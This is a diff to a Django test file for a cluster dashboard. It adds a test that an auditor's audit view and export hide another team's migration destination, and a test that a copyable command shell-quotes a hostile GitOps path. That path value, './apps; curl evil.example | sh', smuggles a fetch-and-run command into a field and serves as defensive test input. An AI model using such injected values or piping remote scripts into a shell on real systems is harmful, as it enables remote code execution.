@@ -1,11 +1,16 @@
 """Names of other teams' namespaces and objects appear on no page, and their Git paths cannot be written to."""
 
+import io
+import zipfile
+from html import unescape
 from typing import Any
 
 import pytest
 from django.test import Client
 from django.utils import timezone
 
+from accounts.models import User
+from audit.models import Event
 from cluster.policies import Admission, PolicyException
 from cluster.values import Ref
 from dashboard.models import Claim, Cluster, GitOpsFact, NamespaceFact, ValidationResult, ValidationRun
@@ -87,6 +92,45 @@ def test_a_claim_does_not_name_migrations_from_elsewhere(cluster: Cluster, brows
     ).transfers.create(number=1, source_name="data", destination_name="data")
     answer = browser.get("/claims/c/team-a/data/")
     assert answer.status_code == 200 and SECRET not in answer.content.decode()
+
+
+def test_the_trail_does_not_name_where_a_migration_goes_that_one_may_not_see(cluster: Cluster) -> None:
+    hidden, shown = (
+        drafting.create_draft(
+            by=person("operator", name=f"by-{application}"),
+            cluster=cluster,
+            namespace="team-a",
+            application=application,
+            claims=["data"],
+        )
+        for application in ("hidden", "shown")
+    )
+    drafting.set_destination(
+        by=User.objects.get(username="by-hidden"),
+        migration=hidden,
+        namespace=f"{SECRET}-b",
+        claims={"data": ("data", "", 0)},
+        owner={},
+    )
+    auditor = Client()
+    auditor.force_login(person("auditor", "team-a"))
+    page = auditor.get("/audit/").content.decode()
+    assert shown.reference in page and hidden.reference not in page
+    for event in Event.objects.filter(kind="migration"):
+        expected = 200 if event.key == shown.reference else 404
+        assert auditor.get(f"/audit/{event.sequence}/").status_code == expected
+    exported = b"".join(auditor.post("/audit/export/").streaming_content)  # type: ignore[attr-defined]
+    lines = zipfile.ZipFile(io.BytesIO(exported)).read("events.jsonl").decode()
+    assert shown.reference in lines and SECRET not in lines
+    everything = Client()
+    everything.force_login(person("auditor", name="auditor-of-all"))
+    assert hidden.reference in everything.get("/audit/").content.decode()
+
+
+def test_a_command_to_copy_runs_nothing_that_a_path_says(cluster: Cluster, browser: Client) -> None:
+    GitOpsFact.objects.filter(uid="ka").update(path="./apps; curl evil.example | sh")
+    page = unescape(browser.get("/claims/c/team-a/data/").content.decode())
+    assert "--path 'apps; curl evil.example | sh' --namespace" in page
 
 
 def test_the_wizard_offers_and_takes_only_ones_own(cluster: Cluster, browser: Client) -> None:
